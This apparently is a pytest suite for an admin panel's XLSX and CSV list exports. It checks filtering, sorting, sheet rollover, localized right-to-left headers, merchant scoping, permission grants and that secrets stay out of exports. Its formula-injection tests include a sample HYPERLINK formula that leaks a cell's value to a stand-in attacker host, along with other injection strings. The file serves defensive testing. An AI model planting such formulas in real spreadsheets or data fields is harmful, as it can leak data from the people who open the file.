"""List exports (R-ORD-6) and the spreadsheet writer under them.

Every file is read back (openpyxl, csv) and compared with what the list's filtered query
returns; the formula-injection guard, the sheet rollover, localized headers, right-to-left sheets,
scoping and the grants are checked through the real app.
"""

from __future__ import annotations

import csv
import io
import re
import tempfile
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any
from unittest import mock

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from sqlalchemy import select
from sqlalchemy.orm import Session, sessionmaker

from admin.app import generated_views
from admin.exports import TEMP_PREFIX
from locales import translations
from reports.spreadsheet import (
    Column,
    Sheet,
    SpreadsheetWriter,
    csv_value,
    iter_csv,
    write_csv,
    write_xlsx,
)
from schema.base import LabelledEnum
from schema.orders import Order

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
EXPORTABLE = [v.identity for v in generated_views() if getattr(v, "is_model", False)]
INJECTIONS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1", "-2", "@SUM(A1:A9)",
              "\tcmd", "\r=1"]


def workbook(data: bytes) -> openpyxl.Workbook:
    return openpyxl.load_workbook(io.BytesIO(data))


def excel_text(value: Any) -> Any:
    """A string cell as Excel shows it: openpyxl leaves Excel's _xHHHH_ escapes in place."""
    if not isinstance(value, str):
        return value
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m[1], 16)), value)


def sheet_rows(book: openpyxl.Workbook) -> list[list[Any]]:
    """The data rows of every sheet, in order, without each sheet's header."""
    rows: list[list[Any]] = []
    for sheet in book.worksheets:
        rows += [list(r) for r in sheet.iter_rows(min_row=2, values_only=True)]
    return rows


def header(book: openpyxl.Workbook) -> list[Any]:
    return [c.value for c in book.worksheets[0][1]]


def sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return "".join(archive.read(n).decode() for n in archive.namelist()
                       if n.startswith("xl/worksheets/sheet"))


def csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "CSV must start with a UTF-8 BOM for Excel"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def export(browser: Any, identity: str, fmt: str = "xlsx", query: str = "") -> bytes:
    response = browser.get(f"/admin/{identity}/exports/{fmt}" + (f"?{query}" if query else ""))
    assert response.status_code == 200, (identity, response.status_code, response.text[:300])
    expected = XLSX if fmt == "xlsx" else "text/csv; charset=utf-8"
    assert response.headers["content-type"] == expected
    assert response.headers["content-disposition"].startswith("attachment;")
    return bytes(response.content)


# --- the writer --------------------------------------------------------------------------------

class Colour(LabelledEnum):
    RED = "red"


MIXED_COLUMNS = [Column("Text"), Column("Money", "money"), Column("When", "datetime"),
                 Column("Day", "date"), Column("Count", "integer"), Column("Flag", "bool"),
                 Column("Ratio", "number")]
MIXED_ROWS: list[list[Any]] = [
    ["plain", Decimal("1234.5600"), datetime(2026, 3, 1, 12, 30, tzinfo=UTC), date(2026, 2, 28),
     7, True, 0.25],
    ["a & b < c > d", Decimal("-12.50"), datetime(1999, 12, 31, 23, 59), date(1900, 1, 5), -3,
     False, 1e-7],
    ["  padded  ", Decimal("0"), None, None, None, None, None],
    ["tab\there, bell\x07, _x0041_", None, None, None, 2**40, None, None],
    [Colour.RED, Decimal("1E+3"), None, None, None, None, None],
    ["Привет, سلام", None, None, None, None, None, None],
    *[[text, None, None, None, None, None, None] for text in INJECTIONS],
]


@pytest.mark.parametrize("fast", [True, False])
def test_formulas_come_out_as_text_and_numbers_as_numbers(fast: bool) -> None:
    out = io.BytesIO()
    with SpreadsheetWriter(out, fast=fast) as book:
        book.add_table(Sheet("Injections", MIXED_COLUMNS, MIXED_ROWS))
    data = out.getvalue()
    sheet = workbook(data).worksheets[0]
    by_text = {excel_text(row[0].value): row for row in sheet.iter_rows(min_row=2)}
    for text in INJECTIONS:
        cell = by_text[text][0]
        assert cell.data_type == "s" and excel_text(cell.value) == text
        assert cell.quotePrefix, f"{text!r} is not marked as text for Excel"
    assert "<f>" not in sheet_xml(data), "the sheet holds a formula"
    money = by_text["a & b < c > d"][1]
    assert money.data_type == "n" and money.value == -12.5 and not money.quotePrefix
    assert by_text["plain"][1].number_format == "#,##0.00##"
    assert by_text["a & b < c > d"][4].value == -3


def test_fast_path_writes_what_xlsxwriter_writes() -> None:
    files = []
    for fast in (True, False):
        out = io.BytesIO()
        with SpreadsheetWriter(out, fast=fast) as book:
            book.add_table(Sheet("Same", MIXED_COLUMNS, MIXED_ROWS))
        files.append(workbook(out.getvalue()).worksheets[0])
    fast_sheet, public_sheet = files
    assert fast_sheet.max_row == public_sheet.max_row == len(MIXED_ROWS) + 1
    for mine, theirs in zip(fast_sheet.iter_rows(), public_sheet.iter_rows(), strict=True):
        for a, b in zip(mine, theirs, strict=True):
            assert (a.value, a.data_type, a.number_format, a.quotePrefix) == (
                b.value, b.data_type, b.number_format, b.quotePrefix), a.coordinate
    values = [c.value for c in fast_sheet[3]]
    assert values[:2] == ["a & b < c > d", -12.5]
    assert values[2] == datetime(1999, 12, 31, 23, 59) and values[3] == datetime(1900, 1, 5)
    assert fast_sheet["A4"].value == "  padded  "
    assert excel_text(fast_sheet["A5"].value) == "tab\there, bell\x07, _x0041_"
    assert fast_sheet["A6"].value == "red" and fast_sheet["B6"].value == 1000
    assert fast_sheet["E5"].value == 2**40


def test_csv_is_utf8_with_bom_and_neutralized() -> None:
    data = b"".join(iter_csv(MIXED_COLUMNS, MIXED_ROWS))
    rows = csv_rows(data)
    assert rows[0] == [c.header for c in MIXED_COLUMNS]
    assert rows[1] == ["plain", "1234.5600", "2026-03-01 12:30:00", "2026-02-28", "7", "1",
                       "0.25"]
    assert rows[2][1] == "-12.50", "a negative amount stays a number"
    assert rows[6][0] == "Привет, سلام"
    assert [r[0] for r in rows[7:]] == ["'" + text for text in INJECTIONS]
    assert rows[5][0] == "red"


_CELLS = st.one_of(
    st.none(), st.text(alphabet=st.sampled_from(list('ab ,"\r\n=+-@\tП')), max_size=6),
    st.integers(-10**6, 10**6), st.decimals(allow_nan=False, allow_infinity=False, places=2),
    st.datetimes(min_value=datetime(1990, 1, 1), max_value=datetime(2090, 1, 1)),
    st.booleans())


@settings(max_examples=150, deadline=None)
@given(st.integers(1, 4).flatmap(lambda width: st.lists(
    st.lists(_CELLS, min_size=width, max_size=width), max_size=30)), st.integers(1, 7))
def test_csv_writes_what_the_csv_module_writes(rows: list[list[Any]], batch: int) -> None:
    """The batch writer (one search per column, C-level joins) against csv.writer fed with
    csv_value cell by cell: the same bytes, however the rows are batched and mixed."""
    width = len(rows[0]) if rows else 1
    columns = [Column(f"H{i}") for i in range(width)]
    expected = io.StringIO()
    writer = csv.writer(expected, lineterminator="\r\n")
    writer.writerow([c.header for c in columns])
    writer.writerows([[csv_value(v) for v in row] for row in rows])
    expected_bytes = b"\xef\xbb\xbf" + expected.getvalue().encode()
    assert b"".join(iter_csv(columns, rows, batch=batch)) == expected_bytes
    # Past the bound of remembered cells every column is written batch by batch.
    with mock.patch("reports.spreadsheet._SEEN_LIMIT", 1):
        assert b"".join(iter_csv(columns, rows, batch=batch)) == expected_bytes


def test_converted_values_are_remembered_per_value_not_per_row() -> None:
    calls: list[Any] = []

    def label(code: str) -> str:
        calls.append(code)
        return {"new": "=New", "done": "Done"}.get(code, code)

    rows = [["new"], ["done"], ["new"], [None], ["new"]] * 20
    columns = [Column("Status", convert=label)]
    out = io.BytesIO()
    write_xlsx(out, [Sheet("S", columns, rows)])
    assert sorted(set(calls)) == ["done", "new"] and len(calls) == 2
    cells = [r[0] for r in sheet_rows(workbook(out.getvalue()))]
    assert cells[:5] == ["=New", "Done", "=New", None, "=New"]
    assert workbook(out.getvalue()).worksheets[0]["A2"].quotePrefix
    written = io.BytesIO()
    write_csv(written, columns, rows)
    assert [r[0] for r in csv_rows(written.getvalue())[1:6]] == ["'=New", "Done", "'=New", "",
                                                                 "'=New"]


@pytest.mark.parametrize("fast", [True, False])
@pytest.mark.parametrize(("count", "sheets"), [(7, 3), (6, 2), (0, 1)])
def test_rows_past_the_limit_continue_on_new_sheets(fast: bool, count: int,
                                                    sheets: int) -> None:
    columns = [Column("N", "integer"), Column("Name")]
    out = io.BytesIO()
    with SpreadsheetWriter(out, row_limit=4, fast=fast) as book:
        table = book.add_table(Sheet("Orders: all", columns,
                                     ([n, f"row {n}"] for n in range(count))))
    book_ = workbook(out.getvalue())
    assert book_.sheetnames == ["Orders all", "Orders all (2)", "Orders all (3)"][:sheets]
    assert table.sheets == book_.sheetnames and table.rows == count
    for sheet in book_.worksheets:
        assert [c.value for c in sheet[1]] == ["N", "Name"], "header repeated on every sheet"
        assert sheet.max_row <= 4
    assert [r[0] for r in sheet_rows(book_)] == list(range(count))


def test_caption_rows_count_toward_the_limit_and_chart_ranges_point_at_the_data() -> None:
    out = io.BytesIO()
    with SpreadsheetWriter(out, row_limit=5, rtl=True) as book:
        table = book.add_table(Sheet("Per day", [Column("Day", "date"), Column("Orders",
                                                                              "integer")],
                                     [[date(2026, 1, d), d] for d in range(1, 6)],
                                     caption=("Orders per day", "January")))
        chart = book.workbook.add_chart({"type": "line"})
        chart.add_series({"categories": table.ref(0), "values": table.ref(1)})
        table.worksheet.insert_chart(1, 3, chart)
    result = workbook(out.getvalue())
    # Two caption rows and the header leave two data rows a sheet: 2 + 2 + 1.
    assert result.sheetnames == ["Per day", "Per day (2)", "Per day (3)"]
    last = result["Per day (3)"]
    assert all(sheet.sheet_view.rightToLeft for sheet in result.worksheets)
    assert [c.value for c in last[1]] == ["Orders per day", None]
    assert [c.value for c in last[3]] == ["Day", "Orders"]
    assert [r[1] for r in last.iter_rows(min_row=4, values_only=True)] == [5]
    assert table.ref(1) == ["Per day (3)", 3, 1, 3, 1]
    assert len(last._charts) == 1 and table.rows == 5


def test_fast_zipping_makes_a_valid_file_and_leaves_xlsxwriter_as_it_was() -> None:
    import xlsxwriter.workbook

    original = xlsxwriter.workbook.ZipFile
    rows = [[f"row {n}", n] for n in range(3000)]
    sizes = {}
    for level in (1, None):
        out = io.BytesIO()
        with SpreadsheetWriter(out, zip_level=level) as book:
            book.add_table(Sheet("Z", [Column("Name"), Column("N", "integer")], rows))
        assert sheet_rows(workbook(out.getvalue())) == rows
        sizes[level] = len(out.getvalue())
    assert xlsxwriter.workbook.ZipFile is original
    assert sizes[1] > sizes[None], "level 1 trades size for speed"


def test_row_limit_is_excels_by_default() -> None:
    assert SpreadsheetWriter(io.BytesIO()).row_limit == 1_048_576
    with pytest.raises(ValueError):
        SpreadsheetWriter(io.BytesIO(), row_limit=1_048_577)


# --- the admin's exports -----------------------------------------------------------------------

@pytest.mark.parametrize("stored", [0, 1, -1, 125000, -425000, 99_999_999_999_999, -(10**17) - 7])
def test_money_is_read_as_the_money_type_reads_it(stored: int) -> None:
    from admin.exports import stored_money
    from schema.base import Money

    expected = Money().process_result_value(stored, None)
    assert stored_money(stored) == expected and f"{stored_money(stored):f}" == f"{expected:f}"


def _orders_as_listed(factory: sessionmaker[Session], numbers: set[str]) -> list[Order]:
    with factory() as session:
        found = session.scalars(
            select(Order).where(Order.number.in_(numbers)).order_by(Order.ordered_at.desc())
        ).all()
        for order in found:
            _ = order.customer, order.payment_method, order.operator
        session.expunge_all()
        return list(found)


def test_export_is_the_filtered_list_on_every_page(signed_in, make, factory) -> None:  # type: ignore[no-untyped-def]
    merchant = make("Merchant")
    base = datetime(2026, 5, 1, tzinfo=UTC)
    made = [make("Order", merchant=merchant, number=f"EXQ-{i:03d}-{'keep' if i % 3 else 'skip'}",
                 status="confirmed" if i % 2 else "awaiting_confirmation",
                 ordered_at=base.replace(hour=i % 24, minute=i), payable=Decimal(f"{i}.25"))
            for i in range(60)]
    expected = {o.number for o in made if o.status == "confirmed" and "keep" in o.number}
    manager = signed_in("manager")
    query = "status=confirmed&search=keep&pageSize=10&page=2"
    assert "EXQ-" in manager.get(f"/admin/orders/list?{query}").text

    book = workbook(export(manager, "orders", "xlsx", query))
    rows = [r for r in sheet_rows(book) if str(r[0]).startswith("EXQ-")]
    orders = _orders_as_listed(factory, expected)
    assert len(rows) == len(expected) == 20, "every matching row, not one page of 10"
    assert [r[0] for r in rows] == [o.number for o in orders], "the list's order"
    columns = header(book)
    assert columns == ["Order number", "Tracking number", "Order date", "Order status",
                       "Shipping status", "Courier status", "Payable", "Currency",
                       "Payment method", "Customer", "Operator", "Note"]
    for row, order in zip(rows, orders, strict=True):
        shown = dict(zip(columns, row, strict=True))
        assert shown["Order status"] == "Confirmed"
        assert shown["Shipping status"] == "Not loaded"
        assert shown["Payable"] == float(order.payable)
        assert shown["Order date"] == order.ordered_at.replace(tzinfo=None)
        assert shown["Customer"] == str(order.customer)
        assert shown["Currency"] == order.currency
    sheet = book.worksheets[0]
    assert sheet["G2"].data_type == "n" and sheet["C2"].is_date

    rows_csv = [r for r in csv_rows(export(manager, "orders", "csv", query))[1:]
                if r[0].startswith("EXQ-")]
    assert [r[0] for r in rows_csv] == [o.number for o in orders]
    assert rows_csv[0][6] == f"{orders[0].payable:f}" and rows_csv[0][3] == "Confirmed"


def test_the_temporary_workbook_is_deleted_once_sent(signed_in, make) -> None:  # type: ignore[no-untyped-def]
    make("Order", number="EXT-1")

    def leftovers() -> set[Path]:
        return set(Path(tempfile.gettempdir()).glob(f"{TEMP_PREFIX}*"))

    before = leftovers()
    manager = signed_in("manager")
    response = manager.get("/admin/orders/exports/xlsx?search=EXT-")
    assert response.status_code == 200 and sheet_rows(workbook(response.content))[0][0] == "EXT-1"
    assert 'filename="orders_' in response.headers["content-disposition"]
    assert leftovers() <= before


def test_names_of_related_rows_survive_small_chunks_and_a_full_memory(  # type: ignore[no-untyped-def]
    app, make, monkeypatch
) -> None:
    import anyio
    from starlette.requests import Request

    import admin.exports
    from services.actor import Actor, acting_as

    merchant = make("Merchant")
    expected = {}
    for i in range(13):
        customer = make("Customer", merchant=merchant, name=f"Chunked customer {i}")
        order = make("Order", merchant=merchant, customer=customer, number=f"EXN-{i:02d}")
        expected[order.number] = customer.name
    monkeypatch.setattr(admin.exports, "NAME_CACHE_LIMIT", 3)
    view = next(v for v in app.state.admin._views if getattr(v, "identity", "") == "orders")
    request = Request({"type": "http", "method": "GET", "path": "/", "headers": [],
                       "query_string": b"search=EXN-", "state": {}, "path_params": {}})
    with acting_as(Actor(user_id=None, username="test", role="superuser")):
        job = anyio.run(admin.exports.export_job, view, request)
    job.chunk_rows = 2
    out = io.BytesIO()
    assert job.write_xlsx(out) == 13
    assert {r[0]: r[9] for r in sheet_rows(workbook(out.getvalue()))} == expected
    assert {r[0]: r[9] for r in csv_rows(b"".join(job.iter_csv()))[1:]} == expected


def test_sort_of_the_list_is_the_sort_of_the_file(signed_in, make) -> None:  # type: ignore[no-untyped-def]
    merchant = make("Merchant")
    for i, amount in enumerate(("5.00", "900.00", "70.00")):
        make("Order", merchant=merchant, number=f"EXS-{i}", payable=Decimal(amount))
    manager = signed_in("manager")
    rows = sheet_rows(workbook(export(manager, "orders", "xlsx",
                                      "search=EXS-&sortBy=payable&sort=desc")))
    assert [r[0] for r in rows] == ["EXS-1", "EXS-2", "EXS-0"]


def test_injected_names_stay_text_and_negative_money_a_number(signed_in, make) -> None:  # type: ignore[no-untyped-def]
    merchant = make("Merchant")
    for i, name in enumerate(INJECTIONS[:4]):
        customer = make("Customer", merchant=merchant, name=name)
        make("Order", merchant=merchant, customer=customer, number=f"EXI-{i}",
             payable=Decimal("-42.50"), note=name)
    manager = signed_in("manager")
    data = export(manager, "orders", "xlsx", "search=EXI-")
    sheet = workbook(data).worksheets[0]
    rows = list(sheet.iter_rows(min_row=2))
    assert len(rows) == 4
    for row in rows:
        customer, note, payable = row[9], row[11], row[6]
        assert customer.value in INJECTIONS and customer.data_type == "s"
        assert customer.quotePrefix and note.quotePrefix and note.value == customer.value
        assert payable.data_type == "n" and payable.value == -42.5
    assert "<f>" not in sheet_xml(data)
    rows_csv = csv_rows(export(manager, "orders", "csv", "search=EXI-"))[1:]
    assert sorted(r[9] for r in rows_csv) == sorted("'" + n for n in INJECTIONS[:4])
    assert {r[6] for r in rows_csv} == {"-42.5000"}


@pytest.mark.parametrize(("lang", "rtl"), [("ru", False), ("fa", True), ("en", False)])
def test_headers_and_labels_in_the_readers_language(signed_in, make, lang: str,  # type: ignore[no-untyped-def]
                                                    rtl: bool) -> None:
    merchant = make("Merchant")
    make("Order", merchant=merchant, number=f"EXL-{lang}", status="confirmed")
    manager = signed_in("manager", language=lang)
    manager.get(f"/admin/?lang={lang}")
    book = workbook(export(manager, "orders", "xlsx", "search=EXL-"))
    words = translations(lang)
    assert header(book)[:4] == [words.gettext(t) for t in (
        "Order number", "Tracking number", "Order date", "Order status")]
    if lang != "en":
        assert header(book)[0] != "Order number"
    row = sheet_rows(book)[0]
    assert row[0] == f"EXL-{lang}"
    assert row[3] not in ("confirmed", None)
    assert bool(book.worksheets[0].sheet_view.rightToLeft) is rtl
    assert book.sheetnames[0] == words.gettext("Orders")
    rows = csv_rows(export(manager, "orders", "csv", "search=EXL-"))
    assert rows[0][:4] == header(book)[:4] and rows[1][3] == row[3]


def test_merchant_exports_only_its_own_rows(signed_in, make) -> None:  # type: ignore[no-untyped-def]
    mine, theirs = make("Merchant"), make("Merchant")
    own = make("Customer", merchant=mine, name="Own customer EXM")
    other = make("Customer", merchant=theirs, name="Other customer EXM")
    for i in range(3):
        make("Order", merchant=mine, customer=own, number=f"EXM-mine-{i}")
        make("Order", merchant=theirs, customer=other, number=f"EXM-theirs-{i}")
    merchant = signed_in("merchant", merchant_id=mine.id)
    for fmt in ("xlsx", "csv"):
        data = export(merchant, "orders", fmt)
        assert b"EXM-theirs" not in data and b"Other customer" not in data
        numbers = ([r[0] for r in sheet_rows(workbook(data))] if fmt == "xlsx"
                   else [r[0] for r in csv_rows(data)[1:]])
        assert {n for n in numbers if n.startswith("EXM-")} == {f"EXM-mine-{i}" for i in range(3)}
        # Asking for the other merchant by filter finds nothing either.
        filtered = export(merchant, "orders", fmt, f"merchant_id={theirs.id}")
        assert b"EXM-theirs" not in filtered
    customers = sheet_rows(workbook(export(merchant, "customers")))
    names = {r[1] for r in customers}
    assert "Own customer EXM" in names and "Other customer EXM" not in names
    assert {r[-1] for r in customers} == {str(mine)}


def test_exporting_needs_the_list_and_export_grants(signed_in, make, make_user, factory) -> None:  # type: ignore[no-untyped-def]
    make("Order", number="EXG-1")
    operator = signed_in("operator")
    assert operator.get("/admin/orders/exports/xlsx").status_code == 403
    assert "data-postdesk-export" not in operator.get("/admin/orders/list").text
    accountant = signed_in("accountant")
    assert accountant.get("/admin/orders/exports/xlsx").status_code == 200
    assert accountant.get("/admin/orders/exports/pdf").status_code == 404
    assert accountant.get("/admin/users/exports/csv").status_code == 403


def test_list_page_offers_both_formats_with_its_filters(signed_in) -> None:  # type: ignore[no-untyped-def]
    manager = signed_in("manager")
    page = manager.get("/admin/orders/list?status=confirmed&search=abc&page=2").text
    assert 'data-export="xlsx"' in page and 'data-export="csv"' in page
    assert "/admin/orders/exports/xlsx?status=confirmed&amp;search=abc" in page
    assert "page=2" not in page.split('data-export="xlsx"')[0].rsplit("href=", 1)[1]
    # sqladmin's own export (every row loaded, CSV only, formulas unescaped) is closed.
    assert manager.get("/admin/orders/export/csv").status_code in (403, 404)


def test_secrets_are_never_exported(signed_in, make) -> None:  # type: ignore[no-untyped-def]
    make("PostalSystem", name="EXSEC post", password="pw-EXSEC-1", api_key="key-EXSEC-2",
         username="login-EXSEC")
    make("PaymentGateway", name="EXSEC gateway", password="pw-EXSEC-3", api_key="key-EXSEC-4")
    admin = signed_in()
    for identity in ("postal_systems", "payment_gateways", "users", "couriers", "merchants"):
        for fmt in ("xlsx", "csv"):
            data = export(admin, identity, fmt)
            text = sheet_xml(data) if fmt == "xlsx" else data.decode("utf-8-sig")
            assert "EXSEC-" not in text.replace("login-EXSEC", ""), (identity, fmt)
            assert "argon2" not in text and "Password" not in text and "API key" not in text
    postal = workbook(export(admin, "postal_systems", "xlsx", "search=EXSEC"))
    assert header(postal) == ["Id", "Name", "Kind", "Username", "Active"]
    assert sheet_rows(postal)[0][1:] == ["EXSEC post", "Central post", "login-EXSEC", "Yes"]


@pytest.mark.parametrize("identity", EXPORTABLE)
def test_every_list_exports(signed_in, identity: str) -> None:  # type: ignore[no-untyped-def]
    admin = signed_in()
    view = next(v for v in generated_views() if getattr(v, "identity", "") == identity)
    book = workbook(export(admin, identity, "xlsx"))
    # The view's export columns (AdminHints.export), else its list's.
    labels = [str(view.column_labels.get(k, k)) for k in
              (c if isinstance(c, str) else c.key
               for c in view.column_export_list or view.column_list)]
    assert header(book) == labels
    rows = csv_rows(export(admin, identity, "csv"))
    assert rows[0] == labels
    assert len(rows) - 1 == len(sheet_rows(book))
